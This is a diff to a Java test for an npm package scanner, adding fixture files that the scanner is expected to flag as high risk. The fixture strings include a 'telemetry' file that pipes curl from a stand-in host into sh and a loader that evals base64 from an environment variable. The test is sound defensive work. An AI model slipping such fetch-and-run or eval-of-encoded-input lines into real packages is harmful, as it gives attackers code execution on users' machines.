@@ -366,7 +366,11 @@ class NpmScanTest {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0", ""),
                 "index.js", "module.exports = require('./dist/impl');\n", "cli.js", "require('./index');\n");
         ArtifactReport a = publishAndScan(tree, "4.7.0", with(tree,
-                "dist/impl.js", "exports.x = 1;\n",
+                "dist/impl.js", "exports.x = /a(b)/.exec(s) + String.fromCharCode(65) + Function(\"return this\")();\n"
+                        + "//# sourceMappingURL=data:application/json;charset=utf-8;base64,"
+                        + Base64.getEncoder().encodeToString(new byte[900]) + "\n",
+                "dist/boot.js", "module.exports = eval(atob(process.env.X));\n",
+                "dist/blob.js", "module.exports = '" + Base64.getEncoder().encodeToString(new byte[900]) + "';\n",
                 "dist/impl.min.js", "exports.x=1;".repeat(400) + "\n",
                 "dist/telemetry.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n"));
         assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/impl.js").status());
@@ -377,8 +381,13 @@ class NpmScanTest {
         assertEquals(NpmGeneratedFiles.BUILD_OUTPUT, t.ruleId());
         assertTrue(t.riskFlags().contains(RiskFlag.DYNAMIC_EXEC));
         assertTrue(t.highRisk());
-        assertEquals(List.of("package/dist/telemetry.js"), a.highRiskPaths());
-        assertEquals(3, dev.divergence.compare.Verdicts.unverifiedCount(a.files()));
+        // regex .exec(, fromCharCode, the Function("return this") shim and an inline source map are what bundles hold
+        assertEquals(Set.of(RiskFlag.CODE), row(a, "package/dist/impl.js").riskFlags());
+        assertTrue(row(a, "package/dist/boot.js").riskFlags().contains(RiskFlag.DYNAMIC_EXEC));
+        assertTrue(row(a, "package/dist/blob.js").riskFlags().contains(RiskFlag.ENCODED_BLOB));
+        assertEquals(List.of("package/dist/blob.js", "package/dist/boot.js", "package/dist/telemetry.js"),
+                a.highRiskPaths().stream().sorted().toList());
+        assertEquals(5, dev.divergence.compare.Verdicts.unverifiedCount(a.files()));
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 
